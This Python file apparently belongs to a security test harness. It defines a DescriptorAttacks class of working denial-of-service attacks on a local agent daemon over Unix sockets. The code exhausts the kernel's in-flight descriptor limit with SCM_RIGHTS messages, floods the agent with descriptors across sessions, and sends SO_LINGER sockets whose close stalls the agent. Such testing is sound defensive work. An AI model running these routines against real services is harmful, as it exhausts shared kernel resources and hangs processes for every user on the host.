"""Attacks with descriptors that are sent over sockets (SCM_RIGHTS)."""

from __future__ import annotations

import array
import os
import socket
import struct
import threading
from typing import Any

from hostile.agent_connection import AgentConnection, CutOffError

MOST_IN_A_PACKET = 253
"""The kernel's SCM_MAX_FD."""


class DescriptorAttacks:
    kept: list[Any]

    def use_up_descriptors_in_flight(self, count: int) -> dict[str, Any]:
        """Send descriptors that nobody receives, which the kernel counts for the user, all containers of root together."""
        sender, receiver = socket.socketpair(socket.AF_UNIX, socket.SOCK_SEQPACKET)
        sender.setblocking(False)
        self.kept += [sender, receiver]
        descriptors = self._null_descriptors()
        sent = 0
        while sent < count:
            sender.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, descriptors)])
            sent += MOST_IN_A_PACKET
        return {"sent": sent}

    def send_descriptors(self, packets: int) -> dict[str, Any]:
        """Send the agent descriptors with packets, each on a session of its own; returns how often the kernel let it."""
        descriptors = self._null_descriptors()
        sent = 0
        for _ in range(packets):
            agent = AgentConnection()
            agent.hello()
            sent += self._send(agent, descriptors)
            self.kept.append(agent)
        return {"sent": sent}

    def send_lingering_sockets(self, seconds: int) -> dict[str, Any]:
        """Send the agent sockets whose last close takes this long, of which it has the last reference: before its packet is read,
        and in packets that it does not read before it closes the connection."""
        sent = 0
        for name, first in (
            ("agent.sock", b"{}"),
            ("agent.sock", b'{"type":"ping"}'),
            ("account.sock", b"!"),
        ):
            agent = AgentConnection(path=f"/run/laneway/{name}")
            if first == b'{"type":"ping"}':
                agent.hello()
            for _ in range(100):  # while it reads these, this process closes its own reference
                self._ignoring_the_end(agent, first)
            lingering = self._lingering(seconds)
            sent += self._send(agent, array.array("i", [lingering.fileno()]))
            # Where the agent has dropped its reference already, or the kernel has refused to send it, closing takes long here.
            threading.Thread(target=lingering.close, daemon=True).start()
            self.kept.append(agent)
        return {"sent": sent}

    def _lingering(self, seconds: int) -> socket.socket:
        """A connected socket with data that its peer does not read."""
        listener = socket.create_server(("127.0.0.1", 0))
        connected = socket.create_connection(listener.getsockname())
        self.kept += [listener, listener.accept()[0]]
        connected.setblocking(False)
        try:
            while True:
                connected.send(bytes(65536))
        except BlockingIOError:
            connected.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, seconds))
        return connected

    @staticmethod
    def _ignoring_the_end(agent: AgentConnection, packet: bytes) -> None:
        try:
            agent.send(packet)
        except CutOffError:
            return

    @staticmethod
    def _send(agent: AgentConnection, descriptors: array.array[int]) -> bool:
        """Send a packet with descriptors. Return whether the kernel let it pass."""
        try:
            agent.socket.sendmsg([b'{"type":"ping"}'], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, descriptors)])
        except OSError:
            return False
        return True

    def _null_descriptors(self) -> array.array[int]:
        null = os.open(os.devnull, os.O_RDONLY)
        self.kept.append(os.fdopen(null))
        return array.array("i", [null] * MOST_IN_A_PACKET)
